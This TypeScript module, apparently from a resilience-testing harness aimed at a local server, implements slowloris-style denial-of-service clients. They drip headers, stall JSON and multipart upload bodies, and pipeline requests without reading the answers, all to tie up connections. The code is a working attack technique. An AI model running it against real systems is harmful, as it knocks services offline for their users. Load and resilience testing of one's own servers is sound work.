import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { FORM, part } from '../caller.ts';
import { addressOf, callerOf, inLanes, type Means } from './attack.ts';

const HEADERS = 300;
const BODIES = 100;
const FORMS = 40;
const READERS = 60;
const STALLED_BYTES = 8_000_000;

/** Clients that occupy connections by being slow: heads, bodies, stalled forms, and unread answers. */
export async function slowClients(means: Means): Promise<void> {
  await Promise.all([
    inLanes(means, HEADERS, (at) =>
      drip(means, at, 'head', 'GET / HTTP/1.1\r\nhost: titian\r\n', 'x-slow: 1\r\n'),
    ),
    inLanes(means, BODIES, (at) => drip(means, at, 'body', jsonHead(), ' ')),
    inLanes(means, FORMS, (at) => drip(means, at, 'form', stalledForm(means, at), '')),
    inLanes(means, READERS, (at) => readNothing(means, at)),
  ]);
}

function jsonHead(): string {
  const head = 'POST /api/login HTTP/1.1\r\nhost: titian\r\nx-requested-with: XMLHttpRequest\r\n';
  return `${head}content-type: application/json\r\ncontent-length: 100000\r\n\r\n{`;
}

/** A form of a member whose file stops in the middle. */
function stalledForm(means: Means, at: number): Buffer {
  const { token = '' } = callerOf(means, at, true);
  const head = `POST /api/investors/apply HTTP/1.1\r\nhost: titian\r\nx-requested-with: XMLHttpRequest\r\nauthorization: Bearer ${token}\r\n`;
  const rest = `content-type: ${FORM}\r\ncontent-length: 60000000\r\n\r\n`;
  const file = part('identity_front', Buffer.alloc(STALLED_BYTES, 1), 'card.png');
  return Buffer.concat([Buffer.from(head + rest), part('submit', '0'), file.subarray(0, file.length - 2)]);
}

/** Sends a beginning, then a little every two seconds, until the server has had enough. */
async function drip(
  means: Means,
  at: number,
  kind: string,
  beginning: string | Buffer,
  more: string,
): Promise<string> {
  const socket = await open(means, at);
  socket.resume().write(beginning);
  while (Date.now() < means.until && !socket.destroyed && socket.readable) {
    await setTimeout(2_000);
    if (more !== '' && socket.writable) socket.write(more);
  }
  const outcome = socket.destroyed || !socket.readable ? 'ended by the server' : 'held to the end';
  socket.destroy();
  return `${kind} ${outcome}`;
}

/** Requests pages, many on one connection, and reads none of the answers. */
async function readNothing(means: Means, at: number): Promise<string> {
  const socket = await open(means, at);
  socket.pause();
  for (let sent = 0; sent < 200 && socket.writable; sent += 1) {
    socket.write('GET /api/docs/json HTTP/1.1\r\nhost: titian\r\n\r\n');
  }
  const length = Math.max(1, Math.min(20_000, means.until - Date.now()));
  await Promise.race([once(socket, 'close'), setTimeout(length)]);
  socket.destroy();
  return 'reader let go';
}

async function open({ port }: Means, at: number): Promise<Socket> {
  const socket = connect({ host: '127.0.0.1', port, localAddress: addressOf(at) });
  await once(socket, 'connect');
  socket.on('error', () => undefined);
  return socket;
}
